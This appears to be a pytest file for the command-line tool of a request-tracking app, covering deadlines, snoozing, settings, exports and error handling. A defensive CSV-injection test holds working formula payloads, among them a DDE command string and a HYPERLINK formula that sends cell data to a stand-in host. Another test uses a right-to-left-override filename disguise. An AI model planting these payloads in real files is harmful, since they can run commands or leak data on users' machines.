# SPDX-FileCopyrightText: 2026 Unhurried developers
# SPDX-License-Identifier: GPL-3.0-or-later
"""The command-line contract of ``desktop.cli.main``, run in-process with a FakeClock and a
``--data-dir`` under ``tmp_path``; one run goes through a real ``python -m desktop``.

The clock starts on Wednesday 25 November 2026 at 10:00 in Berlin; the stores set
``timezone = Europe/Berlin`` and keep the defaults (Mon-Fri 09:00-17:00, 1bd, 60 minutes at risk).
Bad input ends with status 2, one ``unhurried: error:`` line on stderr, and nothing written.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from desktop.cli import build_parser, main
from tests.fakes import FakeClock

BERLIN = ZoneInfo("Europe/Berlin")
ID = re.compile(r"^[0-9a-f]{32}$")
LIST_KEYS = {"id", "subject", "sender", "channel", "priority", "state", "received_at",
             "reply_by", "bucket"}
ROOT = Path(__file__).resolve().parents[2]


def berlin(day: int, hour: int, minute: int = 0, month: int = 11) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=BERLIN)


def stamp(text: str | None) -> datetime | None:
    """An ISO 8601 time from the JSON output; it must carry its UTC offset."""
    if text is None:
        return None
    value = datetime.fromisoformat(text)
    assert value.tzinfo is not None, text
    return value


class Cli:
    """Runs ``main`` on one data directory and returns (status, stdout, stderr)."""

    def __init__(self, data_dir: Path, clock: FakeClock, capsys: pytest.CaptureFixture[str]):
        self.data_dir = data_dir
        self.clock = clock
        self._capsys = capsys

    def __call__(self, *argv: str) -> tuple[int, str, str]:
        status = main(["--data-dir", str(self.data_dir), *argv], clock=self.clock)
        out, err = self._capsys.readouterr()
        return status, out, err

    def ok(self, *argv: str) -> str:
        status, out, err = self(*argv)
        assert (status, err) == (0, ""), err
        return out

    def json(self, *argv: str) -> object:
        return json.loads(self.ok(*argv, "--json") if argv[0] != "export" else self.ok(*argv))

    def add(self, *argv: str) -> str:
        out = self.ok("add", *argv)
        assert ID.match(out.strip()), out
        return out.strip()

    def item(self, request_id: str) -> dict[str, object]:
        return self.json("show", request_id)  # type: ignore[return-value]

    def fails(self, *argv: str) -> str:
        status, out, err = self(*argv)
        assert status == 2, (out, err)
        assert out == ""
        lines = err.splitlines()
        assert len(lines) == 1, err
        assert err.endswith("\n"), err
        assert lines[0].startswith("unhurried: error: "), err
        return lines[0].removeprefix("unhurried: error: ")


@pytest.fixture(autouse=True)
def _system_zone(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TZ", "Europe/Berlin")  # the zone a fresh store starts with


@pytest.fixture
def fresh(tmp_path: Path, clock: FakeClock, capsys) -> Cli:
    """A data directory that does not exist yet."""
    return Cli(tmp_path / "fresh", clock, capsys)


@pytest.fixture
def cli(tmp_path: Path, clock: FakeClock, capsys) -> Cli:
    """A store that exists, set to Berlin time."""
    runner = Cli(tmp_path / "data", clock, capsys)
    assert runner.ok("config", "set", "timezone", "Europe/Berlin") == "Europe/Berlin\n"
    return runner


# -- adding and listing --------------------------------------------------------------------------


def test_add_prints_the_new_id_and_creates_the_store(fresh):
    request_id = fresh.add("Budget question")
    assert (fresh.data_dir / "unhurried.sqlite3").is_file()
    assert fresh.item(request_id)["subject"] == "Budget question"


def test_list_json_objects_carry_the_documented_keys(cli):
    request_id = cli.add("Budget question", "--from", "ann@example.org", "--channel", "email",
                         "--priority", "high", "--received", "2 hours ago", "--body", "Q4?")
    [row] = cli.json("list")
    assert set(row) >= LIST_KEYS
    assert {k: row[k] for k in ("id", "subject", "sender", "channel", "priority", "state",
                                "bucket")} == {
        "id": request_id, "subject": "Budget question", "sender": "ann@example.org",
        "channel": "email", "priority": "high", "state": "open", "bucket": "today"}
    assert stamp(row["received_at"]) == berlin(25, 8)
    # One business day (8 h) from before opening runs out at closing time the same day.
    assert row["reply_by"] == "2026-11-25T17:00:00+01:00"


def test_list_groups_by_bucket_and_filters_with_bucket(cli):
    overdue = cli.add("late", "--due", "2026-11-24 12:00")
    today = cli.add("noon", "--due", "today 4pm")
    tomorrow = cli.add("plan")
    rows = cli.json("list")
    assert [(r["id"], r["bucket"]) for r in rows] == [
        (overdue, "overdue"), (today, "today"), (tomorrow, "tomorrow")]
    assert [r["id"] for r in cli.json("list", "--bucket", "overdue")] == [overdue]
    assert [r["id"] for r in cli.json("list", "--bucket", "TODAY")] == [today]
    assert cli.json("list", "--bucket", "at-risk") == []
    text = cli.ok("list")
    assert text.index("Overdue") < text.index("late") < text.index("Today") < text.index("noon")
    assert overdue[:8] in text


def test_an_empty_list_says_so(fresh):
    assert fresh.ok("list").strip() == "Nothing in the queue."
    assert fresh.json("list") == []
    assert not fresh.data_dir.exists()


# -- changing requests -----------------------------------------------------------------------------


def test_done_and_reopen(cli):
    request_id = cli.add("q")
    assert cli.ok("done", request_id) == ""
    assert cli.json("list") == []
    [row] = cli.json("list", "--all")
    assert (row["state"], row["bucket"]) == ("done", None)
    assert stamp(row["done_at"]) == berlin(25, 10)
    cli.ok("reopen", request_id)
    assert cli.item(request_id)["state"] == "open"


def test_wait_pauses_and_resume_continues_the_clock(cli, clock):
    request_id = cli.add("q")  # reply by Thursday 10:00
    cli.ok("wait", request_id)
    waiting = cli.item(request_id)
    assert (waiting["state"], waiting["bucket"], waiting["reply_by"]) == ("waiting", "waiting",
                                                                          None)
    assert [r["id"] for r in cli.json("list", "--bucket", "waiting")] == [request_id]
    clock.advance(hours=3)
    cli.ok("resume", request_id)
    resumed = cli.item(request_id)
    assert resumed["state"] == "open"
    assert stamp(resumed["reply_by"]) == berlin(26, 13)  # the three paused hours added


def test_snooze_hides_until_then_and_unsnooze_shows_again(cli, clock):
    request_id = cli.add("q")
    cli.ok("snooze", request_id, "today", "3pm")
    snoozed = cli.item(request_id)
    assert (snoozed["state"], snoozed["bucket"]) == ("snoozed", "snoozed")
    assert stamp(snoozed["snoozed_until"]) == berlin(25, 15)
    assert stamp(snoozed["reply_by"]) == berlin(26, 10)  # a snooze never moves the reply-by
    clock.set(berlin(25, 15).astimezone(UTC))
    assert cli.item(request_id)["bucket"] == "tomorrow"
    cli.ok("snooze", request_id, "in", "2", "hours")
    cli.ok("unsnooze", request_id)
    assert cli.item(request_id)["state"] == "open"


def test_show_json_has_the_full_request_and_ids_may_be_shortened(cli):
    request_id = cli.add("q", "--body", "see https://example.org", "--from", "Ann")
    full = cli.item(request_id[:8])
    assert full["id"] == request_id
    assert LIST_KEYS | {"body", "links", "external_id", "due", "snoozed_until"} <= set(full)
    assert (full["body"], full["links"], full["sender"]) == ("see https://example.org", [],
                                                             "Ann")
    text = cli.ok("show", request_id)
    assert "subject: q" in text
    assert text.rstrip().endswith("see https://example.org")


def test_priority_derives_the_reply_by_again(cli):
    request_id = cli.add("q", "--received", "9:30")
    assert stamp(cli.item(request_id)["reply_by"]) == berlin(26, 9, 30)
    cli.ok("priority", request_id, "urgent")  # 1 business hour
    changed = cli.item(request_id)
    assert (changed["priority"], changed["bucket"]) == ("urgent", "at-risk")
    assert stamp(changed["reply_by"]) == berlin(25, 10, 30)


def test_delete_and_restore(cli):
    request_id = cli.add("q")
    cli.ok("delete", request_id)
    assert "No request with id" in cli.fails("show", request_id)
    assert cli.json("list", "--all") == []
    cli.ok("restore", request_id)
    assert cli.item(request_id)["state"] == "open"


def test_export_json_and_csv(cli, tmp_path):
    first = cli.add("first, with comma", "--body", 'line one\n"two"')
    second = cli.add("second")
    cli.ok("done", second)
    rows = cli.json("export", "--format", "json")
    assert [r["id"] for r in rows] == [first, second]
    assert rows[0]["body"] == 'line one\n"two"'
    assert rows[1]["state"] == "done"
    table = list(csv.DictReader(io.StringIO(cli.ok("export", "--format", "csv"))))
    assert [(r["id"], r["subject"], r["state"]) for r in table] == [
        (first, "first, with comma", "open"), (second, "second", "done")]
    assert table[0]["body"] == 'line one\n"two"'
    assert stamp(table[0]["reply_by"]) == stamp(rows[0]["reply_by"])
    target = tmp_path / "out.json"
    assert cli.ok("export", "--out", str(target)) == ""
    assert json.loads(target.read_text(encoding="utf-8")) == rows


def test_search_finds_by_words(cli):
    wanted = cli.add("Budget question", "--body", "numbers for Q4")
    cli.add("Lunch")
    assert [r["id"] for r in cli.json("search", "numbers")] == [wanted]


# -- settings ----------------------------------------------------------------------------------


@pytest.mark.parametrize(("key", "value", "shown"), [
    ("timezone", "UTC", "UTC"),
    ("working_hours", "mon-fri 09:00-17:00", "mon-fri 09:00-17:00"),
    ("working_hours", "mon 09:00-12:00,13:00-17:00", "mon 09:00-12:00,13:00-17:00"),
    ("holidays", "de-be", "DE-BE"),
    ("holidays", "none", "none"),
    ("at_risk_minutes", "90", "90"),
    ("policy.chat.normal", "1bd", "1bd"),
    ("policy.email.high", "4bh", "4bh"),
    ("policy.tracker.low", "48h", "48h"),
])
def test_config_set_and_get(cli, key, value, shown):
    assert cli.ok("config", "set", key, *value.split(" ")) == shown + "\n"
    assert cli.ok("config", "get", key) == shown + "\n"
    assert f"{key} = {shown}\n" in cli.ok("config", "list")


def test_changing_the_policy_derives_existing_reply_bys_again(cli):
    chat = cli.add("chat", "--channel", "chat")
    email = cli.add("mail", "--channel", "email", "--priority", "high")
    tracker = cli.add("ticket", "--channel", "tracker", "--priority", "low")
    assert stamp(cli.item(chat)["reply_by"]) == berlin(26, 10)
    cli.ok("config", "set", "policy.chat.normal", "4bh")
    cli.ok("config", "set", "policy.email.high", "0.5bd")
    cli.ok("config", "set", "policy.tracker.low", "48h")
    assert stamp(cli.item(chat)["reply_by"]) == berlin(25, 14)
    assert stamp(cli.item(email)["reply_by"]) == berlin(25, 14)
    assert stamp(cli.item(tracker)["reply_by"]) == berlin(27, 10)
    cli.ok("config", "set", "working_hours", "mon 09:00-12:00,13:00-17:00")
    assert stamp(cli.item(chat)["reply_by"]) == berlin(30, 14)  # Monday: 3 h before lunch + 1 h


# -- bad input ------------------------------------------------------------------------------------

BAD_INPUT = [
    pytest.param(["add", "x", "--channel", "fax"], "Unknown channel 'fax'", id="channel"),
    pytest.param(["add", "x", "--priority", "asap"], "Unknown priority 'asap'", id="priority"),
    pytest.param(["add", "x", "--received", "the other day"], "", id="received"),
    pytest.param(["add", "x", "--due", "31/31/2026"], "", id="due"),
    pytest.param(["add", "   "], "A request needs a subject.", id="subject"),
    pytest.param(["add"], "", id="no-subject"),
    pytest.param([], "no command given", id="no-command"),
    pytest.param(["frobnicate"], "", id="unknown-command"),
    pytest.param(["done", "0123456789abcdef0123456789abcdef"], "No request with id", id="done"),
    pytest.param(["show", "abcd1234"], "No request with id 'abcd1234'", id="show"),
    pytest.param(["restore", "abcd"], "No request with id", id="restore"),
    pytest.param(["snooze", "abcd1234", "tomorrow"], "No request with id", id="snooze-id"),
    pytest.param(["priority", "abcd1234", "low"], "No request with id", id="priority-id"),
    pytest.param(["list", "--bucket", "soon"], "Unknown bucket 'soon'", id="bucket"),
    pytest.param(["export", "--format", "xml"], "", id="export-format"),
    pytest.param(["config", "set", "colour", "blue"], "Unknown setting 'colour'", id="key"),
    pytest.param(["config", "get", "colour"], "Unknown setting 'colour'", id="get-key"),
    pytest.param(["config", "set", "working_hours", "9-5"], "", id="working-hours"),
    pytest.param(["config", "set", "working_hours", "none"], "Working hours cannot be empty",
                 id="no-working-hours"),
    pytest.param(["config", "set", "timezone", "Mars/Olympus"], "Unknown time zone",
                 id="zone"),
    pytest.param(["config", "set", "holidays", "Germany"], "", id="holidays"),
    pytest.param(["config", "set", "at_risk_minutes", "-5"], "", id="minutes"),
    pytest.param(["config", "set", "policy.chat.normal", "soon"], "Write a target",
                 id="policy"),
]


@pytest.mark.parametrize(("argv", "message"), BAD_INPUT)
def test_bad_input_on_a_fresh_data_dir_creates_nothing(fresh, argv, message):
    assert message in fresh.fails(*argv)
    assert not fresh.data_dir.exists()


def export(cli: Cli) -> str:
    return cli.ok("export", "--format", "json")


@pytest.mark.parametrize(("argv", "message"), BAD_INPUT)
def test_bad_input_on_an_existing_store_changes_nothing(cli, argv, message):
    cli.add("kept", "--channel", "chat")
    settings = cli.ok("config", "list")
    before = export(cli)
    assert message in cli.fails(*argv)
    assert export(cli) == before
    assert cli.ok("config", "list") == settings


def test_bad_snooze_time_on_an_existing_request_changes_nothing(cli):
    request_id = cli.add("q")
    before = export(cli)
    cli.fails("snooze", request_id, "when", "pigs", "fly")
    cli.fails("snooze", request_id, "2 hours ago")
    cli.fails("priority", request_id, "extreme")
    assert export(cli) == before


def files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


@pytest.mark.parametrize("argv", [["list"], ["add", "x"], ["config", "set", "timezone", "UTC"]])
def test_a_file_that_is_not_a_database_is_refused_untouched(tmp_path, clock, capsys, argv):
    runner = Cli(tmp_path / "data", clock, capsys)
    runner.data_dir.mkdir()
    (runner.data_dir / "unhurried.sqlite3").write_bytes(b"these are my notes, not SQLite\n" * 64)
    before = files(runner.data_dir)
    message = runner.fails(*argv)
    assert "is not an SQLite database" in message
    assert "Nothing was written" in message
    assert files(runner.data_dir) == before


@pytest.mark.parametrize("argv", [["list"], ["add", "x"], ["export"]])
def test_a_database_from_a_newer_version_is_refused_untouched(cli, argv):
    cli.add("kept")
    database = cli.data_dir / "unhurried.sqlite3"
    with contextlib.closing(sqlite3.connect(database)) as conn, conn:
        conn.execute("INSERT INTO _sqlite_migrations (migration_set, name, applied_at) "
                     "VALUES ('unhurried', 'm9999_from_the_future', '2030-01-01')")
    before = files(cli.data_dir)
    message = cli.fails(*argv)
    assert "newer version" in message
    assert "m9999_from_the_future" in message
    assert files(cli.data_dir) == before


# -- the real entry point -------------------------------------------------------------------------


def test_python_m_desktop_add_prints_an_id(tmp_path):
    env = {**os.environ, "PYTHONPATH": str(ROOT), "TZ": "Europe/Berlin"}
    done = subprocess.run(
        [sys.executable, "-m", "desktop", "--data-dir", str(tmp_path), "add", "x"],
        capture_output=True, text=True, timeout=60, cwd=ROOT, env=env, check=False)
    assert (done.returncode, done.stderr) == (0, "")
    assert ID.match(done.stdout.strip()), done.stdout
    assert (tmp_path / "unhurried.sqlite3").is_file()


def test_status_prints_the_promise_in_the_readers_zone(cli):
    out = cli.ok("status", "--for", "email", "--tz", "UTC")
    assert out.startswith("I answer email within 1 business day, so your mail from 09:00 UTC")
    assert out.strip().endswith("gets a reply by Thu 26 Nov, 09:00 UTC.")
    assert "Unknown time zone" in cli.fails("status", "--tz", "Mars/Base")
    assert "Unknown channel" in cli.fails("status", "--for", "fax")


def test_check_is_a_pre_send_lint(cli, tmp_path):
    clean = tmp_path / "clean.txt"
    clean.write_text("Summary: build fixed.\n\nPlease confirm by Thu 27 Nov 17:00 UTC.\n",
                     "utf-8")
    assert json.loads(cli.ok("check", str(clean), "--json")) == {"findings": []}
    vague = tmp_path / "vague.txt"
    vague.write_text("Can you review the doc ASAP?\n", "utf-8")
    status, out, err = cli("check", str(vague), "--json")
    assert (status, err) == (1, "")
    found = json.loads(out)["findings"]
    # "ASAP" is the ask's (vague) deadline: vague-time says what to write instead
    assert {f["code"] for f in found} == {"vague-time", "missing-link"}
    assert set(found[0]) == {"code", "severity", "message", "start", "end"}
    latin1 = tmp_path / "latin1.txt"
    latin1.write_bytes("Grüße".encode("latin-1"))
    assert "not UTF-8" in cli.fails("check", str(latin1))
    assert "Unknown time zone" in cli.fails("check", str(clean), "--recipient-tz", "Nowhere/X")


def test_the_cli_speaks_the_language_chosen_in_settings(cli) -> None:
    from desktop.platform.i18n import install_language

    try:
        cli.ok("config", "set", "language", "de")
        assert "Keine Anfrage" in cli.fails("show", "no-such-id")
    finally:
        install_language("en")  # the next test in this process reads English again


def test_on_a_friday_snoozing_until_tomorrow_means_monday_morning(cli, clock):
    clock.set(berlin(27, 15))
    request_id = cli.ok("add", "plan review").strip()
    cli.ok("snooze", request_id, "tomorrow")
    assert stamp(cli.item(request_id)["snoozed_until"]) == berlin(30, 9)


def test_deleted_requests_are_listed_and_restored_by_the_prefix_list_prints(cli, clock,
                                                                             monkeypatch):
    ids = iter(["ab12" + "0" * 28, "ab34" + "0" * 28, "cd56" + "0" * 28])
    monkeypatch.setattr("desktop.core.requests.new_id", lambda: next(ids))
    first, second, third = cli.add("first"), cli.add("second"), cli.add("third")
    assert "Nothing deleted." in cli.ok("list", "--deleted")
    cli.ok("delete", "ab1")
    clock.advance(minutes=1)
    cli.ok("delete", "ab34")
    listed = cli.ok("list", "--deleted")
    assert [line.split()[0] for line in listed.splitlines()[1:]] == ["ab340000", "ab120000"]
    assert [r["id"] for r in cli.json("list", "--deleted")] == [second, first]
    assert [r["id"] for r in cli.json("list")] == [third]
    message = cli.fails("restore", "ab")  # two deleted ids start with it: exit 2, named
    assert "ab120000" in message
    assert "ab340000" in message
    assert cli.json("list", "--deleted") != []
    assert "No request with id 'ee'" in cli.fails("restore", "ee")
    assert "No request with id" in cli.fails("restore", "cd")  # not deleted
    cli.ok("restore", "ab120000")
    assert [r["id"] for r in cli.json("list", "--deleted")] == [second]
    cli.ok("done", "c")  # every command takes a prefix, even one letter
    assert cli.item("cd5")["state"] == "done"
    cli.ok("restore", "a")  # the only deleted one left
    assert cli.json("list", "--deleted") == []


def test_snoozing_past_the_reply_by_warns_and_still_snoozes(cli, clock):
    request_id = cli.add("plan review")  # reply by Thu 26 10:00
    status, out, err = cli("snooze", request_id, "thu", "9am")
    assert (status, out, err) == (0, "", "")
    status, _out, err = cli("snooze", request_id, "fri", "9am")
    assert status == 0
    assert err == ("unhurried: warning: Snoozing 'plan review' until Fri, Nov 27, "
                   "9:00\u202fAM hides it past its reply-by (Thu, Nov 26, 10:00\u202fAM); "
                   "snoozed anyway.\n")
    assert stamp(cli.item(request_id)["snoozed_until"]) == berlin(27, 9)


def test_the_snooze_warning_writes_dates_in_the_users_language(cli, clock):
    from desktop.platform.i18n import install_language

    request_id = cli.add("plan review")  # reply by Thu 26 10:00
    try:
        cli.ok("config", "set", "language", "de")
        status, _out, err = cli("snooze", request_id, "fri", "9am")
    finally:
        install_language("en")  # the next test in this process reads English again
    assert status == 0
    assert "Fr., 27. Nov., 09:00" in err  # the window's formatter, not strftime
    assert "Do., 26. Nov., 10:00" in err
    assert "Fri 27 Nov" not in err


def test_a_snoozed_overdue_request_is_still_overdue_in_status(cli, clock):
    request_id = cli.add("late report", "--due", "today 9:00")
    assert cli.ok("status").splitlines()[-1] == "Your queue: 1 overdue."
    status, _out, err = cli("snooze", request_id, "in", "2", "hours")
    assert status == 0
    assert err.startswith("unhurried: warning: 'late report' is already overdue")
    assert cli.item(request_id)["state"] == "snoozed"
    assert cli.ok("status").splitlines()[-1] == "Your queue: 1 overdue (1 of them snoozed)."


def test_the_demo_shows_a_request_to_follow_up(cli):
    cli.ok("demo")
    [follow] = cli.json("list", "--bucket", "follow-up")
    assert follow["state"] == "follow-up"
    assert stamp(follow["follow_up_at"]) is not None


def _commands(parser: argparse.ArgumentParser) -> dict[str, argparse.ArgumentParser]:
    [sub] = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
    return dict(sub.choices)


def test_every_command_lives_in_commands_and_declares_whether_it_writes() -> None:
    commands = _commands(build_parser())
    assert {"add", "list", "config", "check", "status", "import", "done"} <= set(commands)
    for name, parser in commands.items():
        handler, writes = parser.get_default("handler"), parser.get_default("writes")
        assert handler.__module__.startswith("desktop.commands."), name
        assert isinstance(writes, bool), name
    assert not commands["list"].get_default("writes")
    assert commands["done"].get_default("writes")
    config = _commands(commands["config"])
    assert config["set"].get_default("writes") is True
    assert config["get"].get_default("writes") is None  # the command's False stands


def test_a_read_only_command_creates_no_store(fresh) -> None:
    fresh.ok("config", "get", "timezone")
    assert not fresh.data_dir.exists()


def test_list_writes_dates_in_the_users_language(cli) -> None:
    cli.add("plan")  # reply-by Thu 26 Nov, 10:00 Berlin
    cli.ok("config", "set", "language", "de")
    text = cli.ok("list")
    assert "Do., 26. Nov., 10:00" in text  # the window's formatter, not strftime
    assert "Thu 26 Nov" not in text


def test_csv_export_makes_formula_cells_text(cli):
    """OWASP CSV injection: cells a spreadsheet would run get a leading quote (issue 21)."""
    hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-1+cmd",
               "@SUM(1)"]
    ids = [cli.add(f"--body={subject}", "--", subject) for subject in hostile]
    table = {r["id"]: r for r in csv.DictReader(io.StringIO(cli.ok("export", "--format",
                                                                    "csv")))}
    assert [table[i]["subject"] for i in ids] == ["'" + s for s in hostile]
    assert [table[i]["body"] for i in ids] == ["'" + s for s in hostile]
    assert [r["subject"] for r in cli.json("export", "--format", "json")] == hostile


def test_list_shows_hidden_direction_marks_instead_of_obeying_them(cli):
    cli.add("invoice\u202efdp.exe", "--from", "eve\u2066@x.example")
    shown = cli.ok("list")
    assert "\u202e" not in shown
    assert "\u2066" not in shown
    assert "invoice\ufffdfdp.exe" in shown
    assert "\u202e" not in cli.ok("search", "invoice")
